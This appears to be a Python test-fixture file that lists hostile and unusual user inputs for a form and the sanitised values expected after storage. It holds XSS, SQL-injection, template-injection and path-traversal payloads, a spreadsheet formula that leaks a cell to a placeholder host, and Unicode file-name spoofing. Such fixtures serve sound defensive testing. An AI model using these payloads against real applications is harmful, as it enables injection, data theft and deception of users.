"""What a hostile, careless or merely foreign person types, and what of it is stored."""

AS_TYPED = {
    "script": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "attribute": "\" onmouseover=\"alert(1)\" '><svg/onload=alert(1)>",
    "end of textarea": "</textarea></form><form action=//198.51.100.1>",
    "entities": "&lt;b&gt; &#60; &amp;amp;",
    "sql": "'; DROP TABLE response; -- \\ %s :name {0} \" `",
    "template": "{{ 7*7 }} {% raw %} ${7*7} #{7*7} <%= 7 %>",
    "formula": '=HYPERLINK("http://198.51.100.1/"&A1,"看")',
    "markdown": "**重** _斜_ ~~删~~ `码` # 题 - 项 > 引 | 表 |",
    "links": "[看](javascript:alert(1)) ![图](http://198.51.100.1/x.png) <http://198.51.100.1> www.example.org",
    "streamlit": "$\\frac{1}{2}$ :material/delete: :red[红] :small[小] :streamlit: $$x$$",
    "emoji": "👩‍👩‍👧‍👦 👍🏽 🏴󠁧󠁢󠁥󠁮󠁧󠁿 ❤️ 1️⃣",
    "right to left": "مرحبا \u200fabc\u200e می\u200cخواهم",
    "marks": "e" + "\u0301" * 300,
    "one word": "字" * 500 + "a" * 499,
    "lines": "一\n\n二\t三",
    "far planes": "𠮷野家 𝒳 \U0010ffff",
    "path": "../../etc/passwd\\..\\c:\\nul",
    "excel code": "_x0000_ _x003D_",
}

# What nobody sees goes, and line ends become one kind; the rest is as it was typed.
MENDED = {
    "override": ("发票\u202egpj.exe", "发票gpj.exe"),
    "isolate": ("\u2066付\u2067款\u2068。\u2069", "付款。"),
    "embedding": ("\u202aa\u202bb\u202cc\u202d", "abc"),
    "nul": ("太\0吵", "太吵"),
    "escape": ("\x1b[31m红\x1b[0m\x07", "[31m红[0m"),
    "no width": ("\ufeff好\u200b的\u2060", "好的"),
    "no character": ("好\uffff\ufffe", "好"),
    "line ends": ("一\r\n二\r三\u2028四", "一\n二\n三\n四"),
    "ends": (" \t\u3000好\u00a0\n", "好"),
}

NOTHING = ["", " ", "\u3000\n\t", "\u200b\ufeff", "\u202e\u2069", "\0\x01", "\u3164", "\u200d\u200c", "\u0301", "\ufe0f"]
LONG = "长" * 100_000
